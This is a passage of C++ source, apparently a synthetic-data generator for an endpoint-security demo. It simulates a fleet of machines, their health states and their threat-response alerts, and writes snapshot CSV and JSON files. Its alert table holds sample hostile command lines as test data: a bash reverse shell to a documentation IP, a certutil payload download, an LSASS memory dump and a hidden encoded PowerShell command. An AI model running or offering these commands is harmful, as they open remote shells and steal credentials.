    int profile = 0;           // index into kProfiles, or kStaleProfiles if staleProfile
    int profileRevision = 0;
    int intel = 0;
    bool toolsPending = false;
    bool extPending = false;
    bool settingsPending = false;
    std::array<ToolState, kToolCount> tools{};
    int settingsFirst = 0;
    int settingsCount = 0;

    bool anyTrFailure() const
    {
        return std::any_of(failReason.begin(), failReason.end(), [](int r) { return r >= 0; });
    }
};

class Fleet
{
public:
    Fleet(int endpoints, quint32 seed);

    int endpoints() const { return m_endpoints; }
    int universe() const { return m_universe; }
    int count(int month) const { return m_count[std::size_t(month)]; }
    int linuxCount(int month) const { return m_linuxCount[std::size_t(month)]; }
    int alertCount() const { return m_alertCount; }

    Traits traits(int i) const;
    State state(const Traits &t, int month) const;
    bool present(int i, int month) const { return joinOf(i) <= month && month < retireOf(i); }
    static bool present(const Traits &t, int month) { return t.join <= month && month < t.retire; }
    void appendName(std::string &out, const Traits &t) const;
    static int groups(const Traits &t, std::array<string_view, 6> &g);
    static int expectedProfile(const Traits &t);

    qint64 alertCreatedMs(int k) const;
    bool forcedNeverHandled(int k) const;
    bool forcedDirectResolve(int k) const;
    const Rng &rng() const { return m_rng; }

private:
    Role roleOf(int i) const
    {
        return Role(pickWeighted(m_rng(Tag::Role, std::uint64_t(i)), kRoleWeights));
    }
    int joinOf(int i) const
    {
        if (i == 0 || i >= m_endpoints)
            return 0;
        const std::uint32_t r = below(m_rng(Tag::Join, std::uint64_t(i)), 1000);
        return r < 25 ? 1 : r < 50 ? 2 : r < 75 ? 3 : 0; // ~2.5 % new machines a month
    }
    int retireOf(int i) const
    {
        if (i < m_endpoints)
            return kSnapshots;
        return 1 + int(below(m_rng(Tag::Retire, std::uint64_t(i)), 3));
    }
    int showcaseOf(int i) const
    {
        const auto it =
            std::lower_bound(m_showcase.begin(), m_showcase.end(), std::pair<int, int>(i, -1));
        return it != m_showcase.end() && it->first == i ? it->second : -1;
    }
    void assignShowcases();

    Rng m_rng;
    int m_endpoints = 1;
    int m_retired = 0; // endpoints present in earlier months only: indices after m_endpoints
    int m_universe = 1;
    std::uint32_t m_idKey = 1;
    // Per endpoint index: its running number in its host-name family ("WKS-FIN-" 00123), in
    // the order machines arrived, as an organisation would have numbered them.
    std::vector<std::uint32_t> m_nameNumber;
    std::vector<std::pair<int, int>> m_showcase; // (endpoint index, Showcase), sorted
    std::array<int, kSnapshots> m_count{};
    std::array<int, kSnapshots> m_linuxCount{};
    int m_alertCount = 1;
    qint64 m_alertStartMs = 0;
    std::array<int, kSnapshots> m_forcedNever{};
    std::array<int, kSnapshots> m_forcedDirect{};
};

Fleet::Fleet(int endpoints, quint32 seed) : m_rng(seed)
{
    m_endpoints = std::clamp(endpoints, 1, kMaxEndpoints);
    m_retired = int((qint64(m_endpoints) * 45 + 500) / 1000); // ~4.5 % retired over 3 months
    m_universe = m_endpoints + m_retired;
    // Below 2^31, so index + key never wraps to 0 and no Computer ID is 0.
    m_idKey = std::uint32_t(m_rng(Tag::ComputerIdKey, 0) & 0x7FFFFFFFu) | 1u;
    assignShowcases();

    // Number machines per family in order of arrival: the August fleet first, then each
    // month's newcomers.
    m_nameNumber.assign(std::size_t(m_universe), 0);
    std::vector<std::uint16_t> family(static_cast<std::size_t>(m_universe));
    std::vector<std::uint8_t> join(static_cast<std::size_t>(m_universe));
    for (int i = 0; i < m_universe; ++i) {
        const Traits t = traits(i);
        family[std::size_t(i)] = std::uint16_t(int(t.role) * 16 + t.variant);
        join[std::size_t(i)] = std::uint8_t(t.join);
        for (int m = 0; m < kSnapshots; ++m) {
            if (present(t, m)) {
                ++m_count[std::size_t(m)];
                if (t.platform == Platform::Linux)
                    ++m_linuxCount[std::size_t(m)];
            }
        }
    }
    std::vector<std::uint32_t> next(std::size_t(kRoleCount) * 16, 0);
    for (int m = 0; m < kSnapshots; ++m) {
        for (int i = 0; i < m_universe; ++i) {
            if (join[std::size_t(i)] == m)
                m_nameNumber[std::size_t(i)] = ++next[family[std::size_t(i)]];
        }
    }

    // Alerts: 150-400 a month depending on fleet size, from four months before the first
    // snapshot to the last one, evenly spread with jitter (so ids grow with createdAt)
    // (a toy fleet of a dozen machines gets a handful a month, not 150 each).
    const int perMonth = std::min(150 + std::min(250, m_endpoints / 40), std::max(10, m_endpoints));
    m_alertStartMs = snapshotMs(0) - 120 * kDayMs;
    const qint64 spanDays = (snapshotMs(kSnapshots - 1) - m_alertStartMs) / kDayMs;
    m_alertCount = int(qint64(perMonth) * spanDays / 30);
    // Make sure every snapshot shows a stale unresolved alert and one resolved without In
    // Progress, whatever the random fates say.
    for (int m = 0; m < kSnapshots; ++m) {
        m_forcedNever[std::size_t(m)] = -1;
        m_forcedDirect[std::size_t(m)] = -1;
        const qint64 staleFrom = snapshotMs(m) - 30 * kDayMs;
        const qint64 directFrom = snapshotMs(m) - 25 * kDayMs;
        for (int k = 0; k < m_alertCount; ++k) {
            const qint64 c = alertCreatedMs(k);
            if (m_forcedNever[std::size_t(m)] < 0 && c >= staleFrom)
                m_forcedNever[std::size_t(m)] = k;
            if (c >= directFrom && k != m_forcedNever[std::size_t(m)]) {
                m_forcedDirect[std::size_t(m)] = k;
                break;
            }
        }
    }
}

// Picks, for every showcase kind, one endpoint of the right platform that is present in all
// snapshots, walking the fleet from a seed-dependent start with a stride coprime to its size.
void Fleet::assignShowcases()
{
    std::vector<int> windows, linux, any;
    for (int sc = 0; sc < kShowcaseCount; ++sc) {
        switch (showcaseNeeds(sc)) {
        case Needs::Windows:
            windows.push_back(sc);
            break;
        case Needs::Linux:
            linux.push_back(sc);
            break;
        case Needs::NotMac:
            any.push_back(sc);
            break;
        }
    }
    std::size_t w = 0, l = 0, a = 0;
    const auto n = std::uint64_t(m_endpoints);
    const std::uint64_t start = below(m_rng(Tag::ShowcaseStart, 0), std::uint32_t(m_endpoints));
    const std::uint64_t stride = n % 7919 == 0 ? 104729 : 7919; // primes: coprime to n
    for (std::uint64_t k = 0; k < n; ++k) {
        if (w == windows.size() && l == linux.size() && a == any.size())
            break;
        const int i = int((start + k * stride) % n);
        if (joinOf(i) != 0)
            continue;
        const Platform p = rolePlatform(roleOf(i));
        if (p == Platform::Windows && w < windows.size())
            m_showcase.emplace_back(i, windows[w++]);
        else if (p == Platform::Linux && l < linux.size())
            m_showcase.emplace_back(i, linux[l++]);
        else if (p != Platform::Mac && a < any.size())
            m_showcase.emplace_back(i, any[a++]);
    }
    std::sort(m_showcase.begin(), m_showcase.end());
}

Traits Fleet::traits(int i) const
{
    Traits t;
    const auto ui = std::uint64_t(i);
    t.index = i;
    t.role = roleOf(i);
    t.platform = rolePlatform(t.role);
    t.site = pickWeighted(m_rng(Tag::Site, ui), kSiteWeights);
    switch (t.role) {
    case WinDesktop:
    case WinLaptop:
    case LnxDev:
        t.variant = pickWeighted(m_rng(Tag::Variant, ui), kDeptWeights);
        break;
    case WinDc:
    case WinSql:
    case WinFile:
    case LnxK8s:
        t.variant = t.site;
        break;
    case LnxDb:
        t.variant = below(m_rng(Tag::Variant, ui), 3) == 0 ? 1 : 0; // a third run MySQL
        break;
    case MacClient:
        t.variant = pickWeighted(m_rng(Tag::Variant, ui), kMacDeptWeights);
        break;
    default:
        t.variant = 0;
    }
    t.os = pickOs(t.role, m_rng(Tag::Os, ui));
    t.join = joinOf(i);
    t.retire = retireOf(i);
    t.mixedCase = t.platform != Platform::Linux && chance(m_rng(Tag::MixedCase, ui), kMixedCasePpm);
    t.computerId = mix32(std::uint32_t(i) + m_idKey);
    t.showcase = showcaseOf(i);
    switch (t.showcase) {
    case ScBpfCore:
        t.os = Ubuntu2204;
        break;
    case ScBpfBccOnly:
        t.os = Rhel89;
        break;
    case ScBpfUnsupported:
        t.os = CentOs7;
        break;
    case ScMixedCaseName:
        t.mixedCase = true;
        break;
    default:
        break;
    }
    return t;
}

State Fleet::state(const Traits &t, int m) const
{
    State s;
    const auto i = std::uint64_t(t.index);
    const auto um = std::uint64_t(m) + 1;
    const std::size_t mi = std::size_t(m);
    const int sc = t.showcase;
    // A showcase endpoint is healthy except for its one finding, so nothing masks it.
    const bool clean = sc >= 0;
    const bool win = t.platform == Platform::Windows;
    const bool lnx = t.platform == Platform::Linux;
    const bool mac = t.platform == Platform::Mac;

    // Deployment and whether the endpoint answered Client Extensions - Status in time.
    if (clean) {
        s.deployed = sc != ScNoThreatResponse;
        s.cxPending = sc == ScCxPending;
        s.cxError = sc == ScCxError;
    } else {
        s.deployed = !(chance(m_rng(Tag::NotDeployed, i), kNotDeployedPpm[mi]) ||
                       (t.join == m && m > 0 && chance(m_rng(Tag::JoinerNoTr, i), kJoinerNoTrPpm)));
        s.cxPending = chance(m_rng(Tag::CxPending, i, um), kCxPendingPpm);
        s.cxError = !s.cxPending && chance(m_rng(Tag::CxError, i, um), kCxErrorPpm);
    }
    const bool macRecorder = chance(m_rng(Tag::MacRecorder, i), kMacRecorderPpm);
    s.recorder = s.deployed && (!mac || macRecorder);

    // Health checks: a persistent problem (fixed at some month) and a transient one.
    auto fail = [&](int domain, std::uint64_t h) {
        if (domain == Recorder && !s.recorder)
            domain = Index;
        s.failReason[std::size_t(domain)] = int(below(h, 3));
    };
    if (s.deployed) {
        if (clean) {
            if (sc >= ScFailDec && sc <= ScFailThreatResponse)
                fail(sc - ScFailDec, m_rng(Tag::FailPReason, i));
        } else {
            if (chance(m_rng(Tag::FailP, i), kFailPersistentPpm[mi]))
                fail(pickWeighted(m_rng(Tag::FailPDomain, i), kDomainFailWeights),
                     m_rng(Tag::FailPReason, i));
            if (chance(m_rng(Tag::FailT, i, um), kFailTransientPpm[mi]))
                fail(pickWeighted(m_rng(Tag::FailTDomain, i, um), kDomainFailWeights),
                     m_rng(Tag::FailTReason, i, um));
        }
    }
    s.patchFail = !clean && chance(m_rng(Tag::PatchFail, i, um), kPatchFailPpm);
    // Single-CPU virtual machines do not meet the recorder's minimum requirements.
    if (clean)
        s.minReqMet = sc != ScMinReqNotMet;
    else
        s.minReqMet = !(isServerRole(t.role) && chance(m_rng(Tag::OneCpu, i), kOneCpuPpm[mi]));

    // Windows driver.
    if (win) {
        if (!s.deployed) {
            s.driver = DriverState::NotInstalled;
        } else if (clean) {
            switch (sc) {
            case ScDriverStopped:
                s.driver = DriverState::Stopped;
                break;
            case ScDriverNotStarted:
                s.driver = DriverState::NotStarted;
                break;
            case ScDriverServiceNotInstalled:
                s.driver = DriverState::ServiceNotInstalled;
                break;
            case ScDriverNotInstalled:
                s.driver = DriverState::NotInstalled;
                break;
            default:
                s.driver = DriverState::Running;
            }
        } else if (chance(m_rng(Tag::DriverP, i), kDriverPersistentPpm[mi])) {
            s.driver =
                DriverState(1 + pickWeighted(m_rng(Tag::DriverPKind, i), kDriverProblemWeights));
        } else if (chance(m_rng(Tag::DriverT, i, um), kDriverTransientPpm)) {
            s.driver = DriverState(
                1 + pickWeighted(m_rng(Tag::DriverTKind, i, um), kDriverProblemWeights));
        }
        s.driverPending = clean ? sc == ScDriverPending
                                : chance(m_rng(Tag::DriverPending, i, um), kDriverPendingPpm);
        s.usingDriver =
            s.driver == DriverState::Running &&
            (clean ? sc != ScNotUsingDriver : !chance(m_rng(Tag::NoDriverUse, i), kNoDriverUsePpm));
    }
    s.bpfPending =
        lnx && (clean ? sc == ScBpfPending : chance(m_rng(Tag::BpfPending, i, um), kBpfPendingPpm));

    // Intel: current, last month's, or older.
    s.intel = kIntelRevision[mi + 2];
    if (clean) {
        if (sc == ScOutdatedIntel)
            s.intel = kIntelRevision[mi + 1];
    } else if (chance(m_rng(Tag::IntelP, i), kIntelPersistentPpm[mi])) {
        s.intel = kIntelRevision[mi];
    } else if (chance(m_rng(Tag::IntelT, i, um), kIntelTransientPpm)) {
        s.intel = kIntelRevision[mi + 1];
    }

    // Profile.
    const int expected = expectedProfile(t);
    if (clean)
        s.hasProfile = s.deployed && sc != ScNoProfile;
    else
        s.hasProfile = s.deployed && !chance(m_rng(Tag::NoProfileP, i), kNoProfilePpm[mi]) &&
                       !chance(m_rng(Tag::NoProfileT, i, um), kNoProfileTransientPpm);
    s.profile = expected;
    if (clean ? sc == ScWrongProfile : chance(m_rng(Tag::WrongProfile, i), kWrongProfilePpm[mi])) {
        // Typically a group was renamed and the endpoint fell through to the default, or a
        // server was left in a workstation group.
        if (expected != kDefaultProfile)
            s.profile = kDefaultProfile;
        else
            s.profile = win ? 1 : lnx ? 2 : 3;
    }
    if (clean ? sc == ScUnknownProfile
              : chance(m_rng(Tag::UnknownProfile, i), kUnknownProfilePpm)) {
        s.staleProfile = true;
        s.profile = int(below(m_rng(Tag::UnknownWhich, i), 2));
        s.profileRevision = kStaleProfiles[std::size_t(s.profile)].revision;
    } else {
        const ProfileDef &p = kProfiles[std::size_t(s.profile)];
        const int current = p.revision[mi];
        const bool revised = m > 0 && current > p.revision[mi - 1];
        const bool lag = clean ? sc == ScOutdatedRevision
                               : chance(m_rng(Tag::ProfileLag, i),
                                        revised ? kProfileLagBumpPpm : kProfileLagPpm);
        s.profileRevision = lag ? current - 1 : current;
    }

    // Tools and the client extensions they install.
    s.toolsPending = !clean && chance(m_rng(Tag::ToolsPending, i, um), kToolsPendingPpm);
    s.extPending = !clean && chance(m_rng(Tag::ExtPending, i, um), kExtPendingPpm);
    int stuck = -1;
    if (clean) {
        if (sc == ScExtensionOutlier)
            stuck = ToolIndexCx;
    } else if (chance(m_rng(Tag::ToolStuck, i), kToolStuckPpm)) {
        constexpr std::array<Tool, 4> cx = {ToolThreatResponseCx, ToolCxStream, ToolIndexCx,
                                            ToolRecorder};
        stuck = cx[below(m_rng(Tag::ToolStuckWhich, i), 4)];
    }
    const std::uint8_t platformBit = win ? 1 : lnx ? 2 : 4;
    for (std::size_t k = 0; k < kToolCount; ++k) {
        const ToolDef &d = kTools[k];
        ToolState &ts = s.tools[k];
        if (!(d.platforms & platformBit) || (k == ToolRecorder && mac && !macRecorder))
            continue; // stays Absent
        ts.target = m >= d.release ? d.current : d.previous;
        if (!s.deployed) {
            ts.status = ToolStatus::NotInstalled;
            ts.installed = "N/A"sv;
            continue;
        }
        ts.status = ToolStatus::Installed;
        ts.installed = ts.target;
        if (!clean && m >= d.release && d.previous != d.current) {
            const auto since = std::size_t(std::min(m - d.release, 3));
            // Keyed by release, not tool: a machine that missed an update wave misses all
            // the tools of that release together.
            if (chance(m_rng(Tag::ToolLag, i, std::uint64_t(d.release)), kToolLagPpm[since]))
                ts.installed = d.previous;
        }
        if (int(k) == stuck)
            ts.installed = d.older;
        if ((k == ToolDriver && s.driver == DriverState::NotInstalled) ||
            (k == ToolRecorderBpf && kOs[t.os].bpf == Bpf::Unsupported)) {
            ts.status = ToolStatus::NotInstalled;
            ts.installed = "N/A"sv;
        }
    }
    if (clean) {
        if (sc == ScToolNotInstalled) {
            s.tools[ToolStream].status = ToolStatus::NotInstalled;
            s.tools[ToolStream].installed = "N/A"sv;
        } else if (sc == ScToolMismatch) {
            s.tools[ToolThreatResponse].installed = kTools[ToolThreatResponse].older;
        }
    } else if (s.deployed) {
        // Only the first four tools (present on every platform, never the last line) so an
        // empty Installed Version never ends a cell.
        if (chance(m_rng(Tag::ToolMissing, i, um), kToolMissingPpm)) {
            ToolState &ts = s.tools[below(m_rng(Tag::ToolMissingWhich, i, um), 4)];
            ts.status = ToolStatus::NotInstalled;
            ts.installed = "N/A"sv;
        }
        if (chance(m_rng(Tag::ToolInstalling, i, um), kToolInstallingPpm)) {
            ToolState &ts = s.tools[below(m_rng(Tag::ToolInstallingWhich, i, um), 4)];
            ts.status = ToolStatus::Installing;
            ts.installed = {};
        }
    }

    // Non-default client settings: a standing configuration of the machine.
    s.settingsPending = !clean && chance(m_rng(Tag::SettingsPending, i, um), kSettingsPendingPpm);
    if (clean ? sc == ScNonDefaultSettings : chance(m_rng(Tag::Settings, i), kSettingsPpm)) {
        const std::uint64_t h = m_rng(Tag::SettingsPick, i);
        s.settingsFirst = int(below(h, std::uint32_t(kSettings.size())));
        s.settingsCount = clean ? 3 : 1 + int(below(mix64(h), 3));
    }
    return s;
}

void Fleet::appendName(std::string &out, const Traits &t) const
{
    const std::size_t start = out.size();
    const std::uint32_t n = m_nameNumber[std::size_t(t.index)];
    const auto v = std::size_t(t.variant);
    switch (t.role) {
    case WinDesktop:
        out.append("WKS-"sv).append(kDeptCode[v]).push_back('-');
        appendPadded(out, n, 5);
        break;
    case WinLaptop:
        out.append("lap-"sv).append(kDeptLower[v]).push_back('-');
        appendPadded(out, n, 4);
        break;
    case WinDc:
        out.append("DC-"sv).append(kSiteCode[v]).push_back('-');
        appendPadded(out, n, 2);
        break;
    case WinSql:
        out.append("SQL-"sv).append(kSiteCode[v]).push_back('-');
        appendPadded(out, n, 2);
        break;
    case WinFile:
        out.append("FS-"sv).append(kSiteCode[v]).push_back('-');
        appendPadded(out, n, 2);
        break;
    case WinApp:
        out.append("SRV-APP-"sv);
        appendPadded(out, n, 3);
        break;
    case LnxWeb:
        out.append("srv-web-"sv);
        appendPadded(out, n, 3);
        out.append(".corp.example.com"sv);
        break;
    case LnxDb:
        out.append("db-"sv).append(kDbEngine[v]).push_back('-');
        appendPadded(out, n, 2);
        break;
    case LnxK8s:
        out.append("k8s-node-"sv);
        appendPadded(out, n, 3);
        out.push_back('.');
        out.append(kSiteLower[v]).append(".corp.example.com"sv);
        break;
    case LnxBuild:
        out.append("ci-build-"sv);
        appendPadded(out, n, 2);
        break;
    case LnxDev:
        out.append("dev-"sv).append(kDeptLower[v]).push_back('-');
        appendPadded(out, n, 3);
        break;
    case MacClient:
    case kRoleCount:
        out.append("MAC-"sv).append(kMacDept[v]).push_back('-');
        appendPadded(out, n, 4);
        break;
    }
    // Names are unique because (family prefix, number) is; the digits run after the last '-'.
    // A few machines were named by hand ("Wks-Fin-00123", "Lap-Hr-0042"): only the case
    // differs from the family spelling, so names stay unique case-insensitively too.
    if (t.mixedCase) {
        bool first = true;
        for (std::size_t k = start; k < out.size(); ++k) {
            char &c = out[k];
            if (c == '-' || c == '.') {
                first = true;
                continue;
            }
            if (first && c >= 'a' && c <= 'z')
                c = char(c - 'a' + 'A');
            else if (!first && c >= 'A' && c <= 'Z')
                c = char(c - 'A' + 'a');
            first = false;
        }
    }
}

int Fleet::groups(const Traits &t, std::array<string_view, 6> &g)
{
    std::size_t n = 0;
    g[n++] = "All Computers"sv;
    g[n++] = platformGroup(t.platform);
    const auto v = std::size_t(t.variant);
    switch (t.role) {
    case WinDesktop:
        g[n++] = kDeptWorkstations[v];
        break;
    case WinLaptop:
        g[n++] = kDeptLaptops[v];
        break;
    case WinDc:
        g[n++] = "Windows Servers"sv;
        g[n++] = "Domain Controllers"sv;
        break;
    case WinSql:
        g[n++] = "Windows Servers"sv;
        g[n++] = "SQL Servers"sv;
        break;
    case WinFile:
        g[n++] = "Windows Servers"sv;
        g[n++] = "File Servers"sv;
        break;
    case WinApp:
        g[n++] = "Windows Servers"sv;
        g[n++] = "Application Servers"sv;
        break;
    case LnxWeb:
        g[n++] = "Linux Servers"sv;
        g[n++] = "Web Servers"sv;
        break;
    case LnxDb:
        g[n++] = "Linux Servers"sv;
        g[n++] = "Database Servers"sv;
        break;
    case LnxK8s:
        g[n++] = "Linux Servers"sv;
        g[n++] = "Kubernetes Nodes"sv;
        break;
    case LnxBuild:
        g[n++] = "Linux Servers"sv;
        g[n++] = "Build Servers"sv;
        break;
    case LnxDev:
        g[n++] = "Linux Developer Workstations"sv;
        break;
    case MacClient:
    case kRoleCount:
        g[n++] = kMacGroup[v];
        break;
    }
    g[n++] = kSiteGroup[std::size_t(t.site)];
    return int(n);
}

int Fleet::expectedProfile(const Traits &t)
{
    std::array<string_view, 6> g;
    const int n = groups(t, g);
    for (std::size_t p = 0; p < kProfiles.size(); ++p) {
        for (string_view pg : kProfiles[p].groups) {
            if (pg.empty())
                continue;
            for (int k = 0; k < n; ++k) {
                if (g[std::size_t(k)] == pg)
                    return int(p);
            }
        }
    }
    return kDefaultProfile;
}

qint64 Fleet::alertCreatedMs(int k) const
{
    // Slot k of alertCount equal slots plus jitter inside the slot: strictly increasing in k.
    const qint64 span = snapshotMs(kSnapshots - 1) - m_alertStartMs;
    const qint64 slot = span / m_alertCount;
    return m_alertStartMs + qint64(k) * span / m_alertCount +
           qint64(below(m_rng(Tag::AlertTime, std::uint64_t(k)), std::uint32_t(slot)));
}

bool Fleet::forcedNeverHandled(int k) const
{
    return std::find(m_forcedNever.begin(), m_forcedNever.end(), k) != m_forcedNever.end();
}

bool Fleet::forcedDirectResolve(int k) const
{
    return std::find(m_forcedDirect.begin(), m_forcedDirect.end(), k) != m_forcedDirect.end();
}

// ================================================================================ alerts

struct IntelDef
{
    int id;
    string_view name;
    string_view type;
    Platform platform;
    string_view severity;
    string_view matchType; // "process" or "file"
    string_view path;      // %u = user name
    string_view process;
    string_view args;
    int weight;
};

// Command lines carry quotes, backslashes and commas on purpose: the JSON must escape them.
constexpr std::array<IntelDef, 12> kIntel = {{
    {1042, "Suspicious Rundll32 Activity"sv, "tanium-signal"sv, Platform::Windows, "high"sv,
     "process"sv, "C:\\Windows\\System32\\rundll32.exe"sv, "rundll32.exe"sv,
     "rundll32.exe \"C:\\Users\\%u\\AppData\\Local\\Temp\\upd.dll\",DllRegisterServer"sv, 20},
    {1057, "PowerShell Encoded Command"sv, "tanium-signal"sv, Platform::Windows, "medium"sv,
     "process"sv, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"sv,
     "powershell.exe"sv,
     "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A"sv,
     30},
    {1088, "LSASS Memory Access by Unsigned Process"sv, "tanium-signal"sv, Platform::Windows,
     "critical"sv, "process"sv, "C:\\Users\\%u\\Downloads\\pd64.exe"sv, "pd64.exe"sv,
     "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp"sv, 4},
    {2011, "Certutil Used to Download File"sv, "tanium-signal"sv, Platform::Windows, "medium"sv,
     "process"sv, "C:\\Windows\\System32\\certutil.exe"sv, "certutil.exe"sv,
     "certutil.exe -urlcache -split -f http://198.51.100.23/a.txt a.exe"sv, 15},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Windows,
     "low"sv,
     "file"sv,
     "C:\\Users\\%u\\Downloads\\eicar.com.txt"sv,
     {},
     {},
     12},
    {1120, "Reverse Shell via Bash"sv, "tanium-signal"sv, Platform::Linux, "high"sv, "process"sv,
     "/usr/bin/bash"sv, "bash"sv, "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"sv, 10},
    {1133,
     "Crontab Modified by Non-Root User"sv,
     "tanium-signal"sv,
     Platform::Linux,
     "medium"sv,
     "file"sv,
     "/var/spool/cron/crontabs/%u"sv,
     {},
     {},
     20},
    {2045,
     "Known Cryptominer Binary"sv,
     "reputation"sv,
     Platform::Linux,
     "high"sv,
     "file"sv,
     "/tmp/.X11-unix/.xmr/xmrig"sv,
     {},
     {},
     8},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Linux,
     "low"sv,
     "file"sv,
     "/home/%u/eicar.com"sv,
     {},
     {},
     6},
    {1201,
     "Launch Agent Persistence"sv,
     "tanium-signal"sv,
     Platform::Mac,
     "medium"sv,
     "file"sv,
     "/Users/%u/Library/LaunchAgents/com.apple.updater.plist"sv,
     {},
     {},
     10},
    {1215, "Quarantine Attribute Removed"sv, "tanium-signal"sv, Platform::Mac, "low"sv, "process"sv,
     "/usr/bin/xattr"sv, "xattr"sv,
     "xattr -d com.apple.quarantine \"/Users/%u/Downloads/Free Fonts.app\""sv, 10},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Mac,
     "low"sv,
     "file"sv,
     "/Users/%u/Downloads/eicar.com"sv,
     {},
     {},
     4},
}};

constexpr std::array<string_view, 8> kUsers = {"jdoe"sv,   "asmith"sv, "mgarcia"sv, "lchen"sv,
                                               "pkumar"sv, "onowak"sv, "rsilva"sv,  "tmueller"sv};

void appendWithUser(std::string &out, string_view text, string_view user)
{
    for (std::size_t k = 0; k < text.size(); ++k) {
        if (text[k] == '%' && k + 1 < text.size() && text[k + 1] == 'u') {
            out.append(user);
            ++k;
        } else {
            out.push_back(text[k]);
        }
    }
}

enum class Fate
{
    NeverHandled,
    Ignored,
    DirectResolve,
    Workflow
};

// ======================================================================== snapshot writer

const QString kInventoryFile = QStringLiteral(
    "Get Computer Name and Computer ID and OS Platform and Operating System and Computer Groups "
    "from all machines.csv");
const QString kCxStatusFile =
    QStringLiteral("Get Computer Name and Client Extensions - Status from all machines.csv");
const QString kSettingsFile =
    QStringLiteral("Get Computer Name and Client Health - Client Settings from all machines.csv");
const QString kToolsFile = QStringLiteral(
    "Get Computer Name and Endpoint Configuration - Tools Status from all machines.csv");
const QString kExtensionsFile = QStringLiteral(
    "Get Computer Name and Client Extensions - Installed Extensions from all machines.json");
const QString kDriverFile =
    QStringLiteral("Get Computer Name and Tanium Driver Status and Tanium Driver Version from "
                   "all machines with Is Windows matches true.csv");
const QString kGatewayFile = QStringLiteral("gateway-bpf-linux.json");
const QString kTrStatusFile =
    QStringLiteral("Get Computer Name and Threat Response - Status from all machines.csv");
const QString kAlertsFile = QStringLiteral("threat-response-alerts.json");
const QString kProfilesFile = QStringLiteral("threat-response-profiles.json");

constexpr int kGatewayPageSize = 500;
constexpr string_view kTseError = "TSE-Error: sensor execution timed out"sv;

// Writes the ten files of one snapshot. The per-endpoint files are written together in one
// pass over the fleet; alerts and profiles afterwards.
class SnapshotWriter
{
public:
    SnapshotWriter(const Fleet &fleet, int month, const QString &dir)
        : m_fleet(fleet), m_month(month), m_dir(dir)
    {}

    bool run(QStringList *files, QString *error);

private:
    enum FileId
    {
        Inventory,
        CxStatus,
        Settings,
        Tools,
        Extensions,
        Driver,
        Gateway,
        TrStatus,
        Alerts,
        Profiles,
        kFileCount
    };

    bool open(FileId id, const QString &name, OutFile::Encoding encoding);
    void beginFiles();
    void writeEndpoint(const Traits &t, const State &s);
    void endFiles();
    void writeInventory(const Traits &t);
    void writeCxStatus(const Traits &t, const State &s);
    void writeSettings(const Traits &t, const State &s);
    void writeTools(const State &s);
    void writeExtensions(const Traits &t, const State &s);
    void writeDriver(const State &s);
    void writeGateway(const Traits &t, const State &s);
    void writeTrStatus(const State &s);
    void writeAlerts();
    void writeAlert(int k, qint64 created, qint64 now);
    void writeProfiles();

    const Fleet &m_fleet;
    const int m_month;
    const QString m_dir;
    std::array<OutFile, kFileCount> m_out;
    std::array<QString, kFileCount> m_path;
    QString m_error;

    // Scratch, reused for every endpoint.
    std::string m_name;
    std::string m_cid;
    std::string m_cell;
    std::string m_num;
    Lines<3> m_dkv;
    Lines<4> m_tools;
    Lines<2> m_driverLines{"\r\n"sv}; // CRLF inside a cell: allowed, and exercised here
    Lines<3> m_trStatus;
    int m_extRows = 0;
    int m_gatewayNodes = 0;
};

bool SnapshotWriter::open(FileId id, const QString &name, OutFile::Encoding encoding)
{
    m_path[id] = QDir(m_dir).absoluteFilePath(name);
    if (m_out[id].open(m_path[id], encoding))
        return true;
    if (m_error.isEmpty())
        m_error = QStringLiteral("cannot write %1: %2").arg(m_path[id], m_out[id].error());
    return false;
}

bool SnapshotWriter::run(QStringList *files, QString *error)
{
    using E = OutFile::Encoding;
    // Encodings and line ends vary across files the way real exports do, so the demo also
    // exercises the reader's sniffing: see the per-file comments in beginFiles().
    const bool opened =
        open(Inventory, kInventoryFile, E::Utf8Bom) && open(CxStatus, kCxStatusFile, E::Utf8) &&
        open(Settings, kSettingsFile, E::Utf16LeBom) && open(Tools, kToolsFile, E::Utf8) &&
        open(Extensions, kExtensionsFile, E::Utf8) && open(Driver, kDriverFile, E::Utf8Bom) &&
        open(Gateway, kGatewayFile, E::Utf8) && open(TrStatus, kTrStatusFile, E::Utf8) &&
        open(Alerts, kAlertsFile, E::Utf8) && open(Profiles, kProfilesFile, E::Utf8);
    if (opened) {
        beginFiles();
        for (int i = 0; i < m_fleet.universe(); ++i) {
            if (!m_fleet.present(i, m_month))
                continue;
            const Traits t = m_fleet.traits(i);
            writeEndpoint(t, m_fleet.state(t, m_month));
        }
        endFiles();
        writeAlerts();
        writeProfiles();
    }
    for (std::size_t f = 0; f < kFileCount; ++f) {
        if (!m_out[f].finish() && m_error.isEmpty() && !m_path[f].isEmpty())
            m_error = QStringLiteral("cannot write %1: %2").arg(m_path[f], m_out[f].error());
    }
    if (!m_error.isEmpty()) {
        // Leave no half-written snapshot behind that could be imported by mistake.
        for (const QString &p : m_path) {
            if (!p.isEmpty())
                QFile::remove(p);
        }
        if (error)
            *error = m_error;
        return false;
    }
    for (const QString &p : m_path)
        files->append(p);
    return true;
}

void SnapshotWriter::beginFiles()
{
    // 1. Inventory: UTF-8 with BOM, CRLF, multi-line Computer Groups.
    m_out[Inventory].buf().append(
        "Computer Name,Computer ID,OS Platform,Operating System,Computer Groups,Count\r\n"sv);
    // 2. Client Extensions - Status: UTF-8 without BOM, LF.
    m_out[CxStatus].buf().append("Computer Name,Domain,Key,Value,Count\n"sv);
    // 3. Client Settings: UTF-16LE with BOM, ';', CRLF; the header says Key, not Setting.
    m_out[Settings].buf().append("Computer Name;Domain;Key;Value;Count\r\n"sv);
    // 4. Tools Status: UTF-8 without BOM, CRLF.
    m_out[Tools].buf().append(
        "Computer Name,Tool Name,Status,Targeted Version,Installed Version,Count\r\n"sv);
    // 5. Installed Extensions: REST API v2 result_data; counts are known before the rows.
    {
        std::string &b = m_out[Extensions].buf();
        const qint64 now = snapshotMs(m_month);
        int y = 0, mo = 0, d = 0;
        civilFromDays(now / kDayMs, y, mo, d);
        const int n = m_fleet.count(m_month);
